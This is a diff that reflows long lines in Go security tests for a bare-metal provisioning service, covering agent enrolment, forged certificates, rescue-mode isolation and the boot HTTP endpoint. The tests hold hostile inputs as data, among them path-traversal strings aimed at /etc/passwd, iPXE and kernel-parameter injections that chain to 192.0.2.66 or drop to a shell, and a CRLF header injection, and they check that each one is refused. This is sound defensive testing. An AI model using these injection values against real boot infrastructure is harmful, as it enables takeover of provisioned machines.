@@ -39,7 +39,8 @@ func (w *bootWorld) session(a *agentstest.Agent, cert *tls.Certificate) (agentv1
 	conf := a.TLS()
 	conf.Certificates = nil
 	if cert != nil {
-		conf.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil } // also one that is not asked for
+		// also one that is not asked for
+		conf.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil }
 	}
 	conn, err := grpc.NewClient("passthrough:///"+a.Addr, grpc.WithTransportCredentials(credentials.NewTLS(conf)))
 	if err != nil {
@@ -52,7 +53,11 @@ func (w *bootWorld) session(a *agentstest.Agent, cert *tls.Certificate) (agentv1
 	if err != nil {
 		return nil, err
 	}
-	stream.Send(&agentv1.AgentMessage{Body: &agentv1.AgentMessage_Hello{Hello: &agentv1.Hello{BootId: a.BootID, Generation: a.Gen, AgentVersion: "simulated", StepsDigest: "simulated"}}}) // Recv says why, if not
+	// Recv says why, if not
+	stream.Send(&agentv1.AgentMessage{
+		Body: &agentv1.AgentMessage_Hello{
+			Hello: &agentv1.Hello{BootId: a.BootID, Generation: a.Gen, AgentVersion: "simulated",
+				StepsDigest: "simulated"}}})
 	m, err := stream.Recv()
 	if err == nil && m.GetWelcome() == nil {
 		err = fmt.Errorf("the first message is %T", m.Body)
@@ -101,13 +106,15 @@ func (w *bootWorld) enroll(a *agentstest.Agent) (*ecdsa.PrivateKey, *tls.Certifi
 	return key, &tls.Certificate{Certificate: [][]byte{resp.Certificate}, PrivateKey: key}, nil
 }
 
-// TestAgentOfAnotherNode: the agent of a node, and who has its token, key and certificate, get nothing of another node, and don't lie about their own.
+// TestAgentOfAnotherNode: the agent of a node, and who has its token, key and certificate, get nothing of another node,
+// and don't lie about their own.
 func TestAgentOfAnotherNode(t *testing.T) {
 	w := newBootWorld(t)
 	const mac, otherMAC = "52:54:00:00:08:01", "52:54:00:00:08:02"
 	state := func(name, want string) {
 		t.Helper()
-		if out := w.want(200, root, "GET", "/v1/nodes/"+name+"/states", ""); !strings.Contains(out, `"provision_state":"`+want+`"`) {
+		if out := w.want(200, root, "GET", "/v1/nodes/"+name+"/states", ""); !strings.Contains(out,
+			`"provision_state":"`+want+`"`) {
 			t.Errorf("%s is not %q: %s", name, want, out)
 		}
 	}
@@ -132,7 +139,8 @@ func TestAgentOfAnotherNode(t *testing.T) {
 		{"the other's token from this machine", other.Token, mac},
 		{"a node that does not exist", "00000000-0000-4000-8000-000000000000" + own.Token[36:], mac},
 	} {
-		denied(c.name, (&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, Token: c.token, MACs: []string{c.mac}}).Enroll(t.Context()))
+		denied(c.name, (&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, Token: c.token,
+			MACs: []string{c.mac}}).Enroll(t.Context()))
 	}
 	key, cert, err := w.enroll(own)
 	if err != nil {
@@ -140,21 +148,24 @@ func TestAgentOfAnotherNode(t *testing.T) {
 	}
 	_, _, err = w.enroll(own)
 	denied("another key with a used token", err)
-	if _, _, err := w.enroll(&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, Token: own.Token, MACs: own.MACs}); err == nil {
+	if _, _, err := w.enroll(&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, Token: own.Token,
+		MACs: own.MACs}); err == nil {
 		t.Error("another boot enrols with a used token")
 	}
 	if err := other.Enroll(t.Context()); err != nil {
 		t.Fatalf("the other's own agent, after all that: %v", err)
 	}
 
-	leaf := func(subject []byte, parent *x509.Certificate, public *ecdsa.PublicKey, signer *ecdsa.PrivateKey, rest ...[]byte) *tls.Certificate {
+	leaf := func(subject []byte, parent *x509.Certificate, public *ecdsa.PublicKey, signer *ecdsa.PrivateKey,
+		rest ...[]byte) *tls.Certificate {
 		t.Helper()
 		of, err := x509.ParseCertificate(subject)
 		if err != nil {
 			t.Fatal(err)
 		}
-		template := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: of.Subject, URIs: of.URIs, DNSNames: of.DNSNames, ExtraExtensions: of.ExtraExtensions,
-			NotBefore: of.NotBefore, NotAfter: of.NotAfter, ExtKeyUsage: of.ExtKeyUsage, KeyUsage: of.KeyUsage}
+		template := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: of.Subject, URIs: of.URIs,
+			DNSNames: of.DNSNames, ExtraExtensions: of.ExtraExtensions, NotBefore: of.NotBefore, NotAfter: of.NotAfter,
+			ExtKeyUsage: of.ExtKeyUsage, KeyUsage: of.KeyUsage}
 		if parent == nil {
 			parent = template
 		}
@@ -185,7 +196,9 @@ func TestAgentOfAnotherNode(t *testing.T) {
 		name, boot string
 		generation uint64
 	}{{"the other's boot", other.BootID, other.Gen}, {"another generation", own.BootID, own.Gen + 1}} {
-		if _, err := w.session(&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, BootID: c.boot, Gen: c.generation}, cert); err == nil {
+		if _, err := w.session(
+			&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, BootID: c.boot, Gen: c.generation},
+			cert); err == nil {
 			t.Errorf("a session as %s is open", c.name)
 		}
 	}
@@ -198,13 +211,20 @@ func TestAgentOfAnotherNode(t *testing.T) {
 	plan := w.plan(stream)
 	seq := uint64(0)
 	for _, e := range []*agentv1.Event{
-		{Body: &agentv1.Event_StepStarted{StepStarted: &agentv1.StepStarted{PlanId: "another plan", StepIndex: 1 << 31, Interface: "deploy", Name: "write_image"}}},
-		{Body: &agentv1.Event_StepFinished{StepFinished: &agentv1.StepFinished{PlanId: "another plan", Interface: "inspect", Name: "inspect", Outcome: agentv1.Outcome_OUTCOME_DONE}}},
+		{Body: &agentv1.Event_StepStarted{
+			StepStarted: &agentv1.StepStarted{PlanId: "another plan", StepIndex: 1 << 31, Interface: "deploy",
+				Name: "write_image"}}},
+		{Body: &agentv1.Event_StepFinished{
+			StepFinished: &agentv1.StepFinished{PlanId: "another plan", Interface: "inspect", Name: "inspect",
+				Outcome: agentv1.Outcome_OUTCOME_DONE}}},
 		{Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: "another plan", Done: true}}},
-		{Body: &agentv1.Event_StepFinished{StepFinished: &agentv1.StepFinished{PlanId: plan.Id, StepIndex: 1<<32 - 1, Interface: "inspect", Name: "inspect", Outcome: agentv1.Outcome_OUTCOME_DONE,
-			Result: []byte(`{"inventory":{}}`)}}},
-		{Body: &agentv1.Event_Progress{Progress: &agentv1.Progress{PlanId: plan.Id, StepIndex: 1<<32 - 1, Bytes: 1 << 62, Total: 1}}},
-		{Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: plan.Id, Done: true}}}, // of which no step was done
+		{Body: &agentv1.Event_StepFinished{
+			StepFinished: &agentv1.StepFinished{PlanId: plan.Id, StepIndex: 1<<32 - 1, Interface: "inspect",
+				Name: "inspect", Outcome: agentv1.Outcome_OUTCOME_DONE, Result: []byte(`{"inventory":{}}`)}}},
+		{Body: &agentv1.Event_Progress{
+			Progress: &agentv1.Progress{PlanId: plan.Id, StepIndex: 1<<32 - 1, Bytes: 1 << 62, Total: 1}}},
+		// of which no step was done
+		{Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: plan.Id, Done: true}}},
 	} {
 		seq++
 		e.Seq = seq
@@ -230,7 +250,8 @@ func TestAgentOfAnotherNode(t *testing.T) {
 	}
 	w.want(202, root, "PUT", "/v1/nodes/other/states/provision", `{"target":"abort"}`)
 	ingotd.Wait(t, "the other's inspection is given up", func() bool {
-		return strings.Contains(w.want(200, root, "GET", "/v1/nodes/other/states", ""), `"provision_state":"inspect failed"`)
+		return strings.Contains(w.want(200, root, "GET", "/v1/nodes/other/states", ""),
+			`"provision_state":"inspect failed"`)
 	})
 	w.want(202, root, "PUT", "/v1/nodes/other/maintenance", `{}`)
 	ingotd.Wait(t, "the other is deleted", func() bool {
@@ -266,14 +287,16 @@ func TestHalfSentMessage(t *testing.T) {
 	}
 	var head bytes.Buffer
 	h := hpack.NewEncoder(&head)
-	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", agentv1.Agents_Session_FullMethodName}, {":authority", a.Addr},
-		{"content-type", "application/grpc"}, {"te", "trailers"}} {
+	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "https"},
+		{":path", agentv1.Agents_Session_FullMethodName}, {":authority", a.Addr}, {"content-type", "application/grpc"},
+		{"te", "trailers"}} {
 		if err := h.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]}); err != nil {
 			t.Fatal(err)
 		}
 	}
 	f := http2.NewFramer(c, c)
-	err = errors.Join(f.WriteSettings(), f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head.Bytes(), EndHeaders: true}),
+	err = errors.Join(f.WriteSettings(),
+		f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head.Bytes(), EndHeaders: true}),
 		f.WriteData(1, false, []byte{0, 0, 16, 0, 0, 1, 2, 3})) // a message of 1 MiB begins
 	if err != nil {
 		t.Fatal(err)
@@ -297,13 +320,15 @@ func TestHalfSentMessage(t *testing.T) {
 	}
 }
 
-// TestRescuedMachine: who is root on a machine in rescue has its agent's key, and gets no more by it than that machine; the password that let him
-// in is nowhere in clear.
+// TestRescuedMachine: who is root on a machine in rescue has its agent's key, and gets no more by it than that machine;
+// the password that let him in is nowhere in clear.
 func TestRescuedMachine(t *testing.T) {
 	w := newBootWorld(t, "history.reports_per_node=10", "log_format=json")
 	const mac, password = "52:54:00:00:09:01", "canary-of-a-rescue"
-	id := w.machine("hurt", mac, `"rescue_interface":"agent","deploy_interface":"ramdisk","instance_info":{"kernel":"http://192.0.2.1/k"}`)
-	w.machine("neighbour", "52:54:00:00:09:02", `"inspect_interface":"agent","instance_info":{"configdrive":{"user_data":"canary-drive"}}`)
+	id := w.machine("hurt", mac,
+		`"rescue_interface":"agent","deploy_interface":"ramdisk","instance_info":{"kernel":"http://192.0.2.1/k"}`)
+	w.machine("neighbour", "52:54:00:00:09:02",
+		`"inspect_interface":"agent","instance_info":{"configdrive":{"user_data":"canary-drive"}}`)
 	w.state("neighbour", "inspect", "inspect wait")
 	w.state("hurt", "adopt", "active")
 	w.lease("hurt", "shop")
@@ -329,9 +354,13 @@ func TestRescuedMachine(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	say(&agentv1.Event{Body: &agentv1.Event_StepFinished{StepFinished: &agentv1.StepFinished{PlanId: plan.Id, Interface: "rescue", Name: "rescue", Outcome: agentv1.Outcome_OUTCOME_DONE,
-		Result: []byte(`{"addresses":["192.0.2.7"],"port":22,"host_key":"SHA256:abc"}`)}}})
-	say(&agentv1.Event{Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: plan.Id, Done: true}}})
+	say(&agentv1.Event{
+		Body: &agentv1.Event_StepFinished{
+			StepFinished: &agentv1.StepFinished{PlanId: plan.Id, Interface: "rescue", Name: "rescue",
+				Outcome: agentv1.Outcome_OUTCOME_DONE,
+				Result:  []byte(`{"addresses":["192.0.2.7"],"port":22,"host_key":"SHA256:abc"}`)}}})
+	say(&agentv1.Event{
+		Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: plan.Id, Done: true}}})
 	rescued := func() bool {
 		return strings.Contains(w.want(200, root, "GET", "/v1/nodes/hurt/states", ""), `"provision_state":"rescue"`)
 	}
@@ -339,7 +368,8 @@ func TestRescuedMachine(t *testing.T) {
 
 	requests := func() (asked int) {
 		var h struct{ History []struct{ Event string } }
-		if err := json.Unmarshal([]byte(w.want(200, olga, "GET", "/v1/nodes/hurt/history?detail=true", "")), &h); err != nil {
+		if err := json.Unmarshal([]byte(w.want(200, olga, "GET", "/v1/nodes/hurt/history?detail=true", "")),
+			&h); err != nil {
 			t.Fatal(err)
 		}
 		for _, l := range h.History {
@@ -354,10 +384,14 @@ func TestRescuedMachine(t *testing.T) {
 		t.Errorf("%d requests are in the history, which shows nothing", asked)
 	}
 	for i := range 1000 {
-		say(&agentv1.Event{Body: &agentv1.Event_Log{Log: &agentv1.LogLine{Level: "ERROR", Message: fmt.Sprint("look here ", i)}}})
+		say(&agentv1.Event{
+			Body: &agentv1.Event_Log{Log: &agentv1.LogLine{Level: "ERROR", Message: fmt.Sprint("look here ", i)}}})
 	}
 	for range 300 { // each is a line of the history, which is trimmed now and then
-		say(&agentv1.Event{Body: &agentv1.Event_WorkerRestarted{WorkerRestarted: &agentv1.WorkerRestarted{Reason: "\x1b[2J" + strings.Repeat("x", 1000), Count: 1 << 31}}})
+		say(&agentv1.Event{
+			Body: &agentv1.Event_WorkerRestarted{
+				WorkerRestarted: &agentv1.WorkerRestarted{Reason: "\x1b[2J" + strings.Repeat("x", 1000),
+					Count: 1 << 31}}})
 	}
 	for range 20 { // which is no result
 		say(&agentv1.Event{Body: &agentv1.Event_Progress{Progress: &agentv1.Progress{PlanId: plan.Id}}})
@@ -381,7 +415,8 @@ func TestRescuedMachine(t *testing.T) {
 	for _, path := range []string{"/v1/nodes", "/v1/nodes/" + id, "/ingot/v1/nodes/neighbour/logs"} {
 		w.want(401, nobody, "GET", path, "")
 	}
-	w.absent("the lookup of a neighbour", w.want(200, nobody, "GET", "/v1/lookup?addresses=52:54:00:00:09:02", ""), "canary")
+	w.absent("the lookup of a neighbour", w.want(200, nobody, "GET", "/v1/lookup?addresses=52:54:00:00:09:02", ""),
+		"canary")
 	for _, path := range []string{"/workload/" + id + "/config-drive.cpio", "/workload/neighbour/config-drive.cpio"} {
 		if status, _ := w.fetch(machineAddr, path); status != http.StatusNotFound {
 			t.Errorf("GET %s from the machine = %d", path, status)
@@ -391,7 +426,8 @@ func TestRescuedMachine(t *testing.T) {
 	var args struct {
 		Hash string `json:"password_hash"`
 	}
-	if err := json.Unmarshal(plan.Steps[0].Args, &args); err != nil || bcrypt.CompareHashAndPassword([]byte(args.Hash), []byte(password)) != nil {
+	if err := json.Unmarshal(plan.Steps[0].Args, &args); err != nil ||
+		bcrypt.CompareHashAndPassword([]byte(args.Hash), []byte(password)) != nil {
 		t.Errorf("the plan has %q, %v, want the password's bcrypt hash", args.Hash, err)
 	}
 	w.absent("the log", w.d.Log.String(), password, args.Hash)
@@ -416,24 +452,30 @@ func TestRescuedMachine(t *testing.T) {
 // TestBootHTTP: who reaches boot HTTP gets the files that are offered, and a script that his words can't be part of.
 func TestBootHTTP(t *testing.T) {
 	w := newBootWorld(t)
-	for _, path := range []string{"/", "/images/", "/images/../../../etc/passwd", "/images/..%2f..%2f..%2f..%2fetc%2fpasswd", "/images/%2e%2e/%2e%2e/etc/passwd", "/images/%00",
-		"/ramdisk/", "/ramdisk/manifest.json", "/loader/..%2f..%2fkey", "/workload/", "/workload/..%2f..%2fkey/config-drive.cpio", "/" + strings.Repeat("a/", 3000)} {
+	for _, path := range []string{"/", "/images/", "/images/../../../etc/passwd",
+		"/images/..%2f..%2f..%2f..%2fetc%2fpasswd", "/images/%2e%2e/%2e%2e/etc/passwd", "/images/%00", "/ramdisk/",
+		"/ramdisk/manifest.json", "/loader/..%2f..%2fkey", "/workload/", "/workload/..%2f..%2fkey/config-drive.cpio",
+		"/" + strings.Repeat("a/", 3000)} {
 		status, body := w.fetch(strangerAddr, path)
 		if status < 300 || status >= 500 && status != 501 {
 			t.Errorf("GET %.100s = %d", path, status)
 		}
 		w.absent("GET "+path, body, "root:x:0", "vmlinuz", "manifest.json")
 	}
-	for _, query := range []string{"?mac=52:54:00:00:0a:01%0aimgfetch%20http://192.0.2.66/%0a", "?mac=$%7bnet0/mac%7d", "?uuid=x%0aboot", "?mac=" + strings.Repeat("52:54:", 5000),
-		"?mac=52:54:00:00:0a:01&uuid=%0d%0aX-Evil:1", "?mac=%00%ff", "?mac[]=1&mac[]=2"} {
-		if status, body := w.fetch(strangerAddr, "/boot.ipxe"+query); status < 400 || strings.Contains(body, "192.0.2.66") || strings.Contains(body, "${net0") {
+	for _, query := range []string{"?mac=52:54:00:00:0a:01%0aimgfetch%20http://192.0.2.66/%0a", "?mac=$%7bnet0/mac%7d",
+		"?uuid=x%0aboot", "?mac=" + strings.Repeat("52:54:", 5000), "?mac=52:54:00:00:0a:01&uuid=%0d%0aX-Evil:1",
+		"?mac=%00%ff", "?mac[]=1&mac[]=2"} {
+		if status, body := w.fetch(strangerAddr, "/boot.ipxe"+query); status < 400 ||
+			strings.Contains(body, "192.0.2.66") || strings.Contains(body, "${net0") {
 			t.Errorf("GET /boot.ipxe%.100s = %d %.300s", query, status, body)
 		}
 	}
 	const mac = "52:54:00:00:0a:02"
 	w.machine("n", mac, `"inspect_interface":"agent"`)
-	for _, params := range []string{`a=1 ${net0/mac}`, `a=1 && chain http://192.0.2.66/`, `a || shell`, `rdinit=/bin/sh`, `ingot.conductor=192.0.2.66:1`, `x\n\nchain http://192.0.2.66/`} {
-		status, _, out := w.ask(olga, "PATCH", "/v1/nodes/n", `[{"op":"add","path":"/driver_info/kernel_append_params","value":"`+params+`"}]`)
+	for _, params := range []string{`a=1 ${net0/mac}`, `a=1 && chain http://192.0.2.66/`, `a || shell`,
+		`rdinit=/bin/sh`, `ingot.conductor=192.0.2.66:1`, `x\n\nchain http://192.0.2.66/`} {
+		status, _, out := w.ask(olga, "PATCH", "/v1/nodes/n",
+			`[{"op":"add","path":"/driver_info/kernel_append_params","value":"`+params+`"}]`)
 		if status == 400 {
 			continue
 		}
@@ -454,14 +496,16 @@ func TestBootHTTP(t *testing.T) {
 		})
 		status, text, _ := w.script(machineAddr, mac)
 		for line := range strings.Lines(text) {
-			if strings.HasPrefix(line, "chain http://192.0.2.66") || strings.Contains(line, "||shell") || status == 200 && !strings.Contains(params, `\n`) {
+			if strings.HasPrefix(line, "chain http://192.0.2.66") || strings.Contains(line, "||shell") ||
+				status == 200 && !strings.Contains(params, `\n`) {
 				t.Errorf("%s: the script with status %d has %q", params, status, line)
 			}
 		}
 		if state == "inspect wait" {
 			w.want(202, root, "PUT", "/v1/nodes/n/states/provision", `{"target":"abort"}`)
 			ingotd.Wait(t, "the inspection is given up", func() bool {
-				return strings.Contains(w.want(200, root, "GET", "/v1/nodes/n/states", ""), `"provision_state":"inspect failed"`)
+				return strings.Contains(w.want(200, root, "GET", "/v1/nodes/n/states", ""),
+					`"provision_state":"inspect failed"`)
 			})
 		}
 	}
